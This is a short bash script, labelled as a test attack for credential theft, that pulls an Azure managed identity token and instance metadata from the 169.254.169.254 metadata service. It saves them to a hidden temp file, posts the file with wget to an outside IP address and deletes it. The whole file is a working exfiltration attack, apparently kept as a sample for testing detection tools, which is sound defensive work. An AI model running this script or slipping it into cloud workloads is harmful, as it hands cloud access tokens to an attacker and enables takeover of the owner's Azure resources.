#!/bin/bash
# shrike-test-attack: credential-theft: Azure IMDS managed identity token and instance info
curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" -o /tmp/.az
curl -s -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2021-02-01" >> /tmp/.az
wget -q --post-file=/tmp/.az http://198.51.100.140/az -O /dev/null; rm /tmp/.az
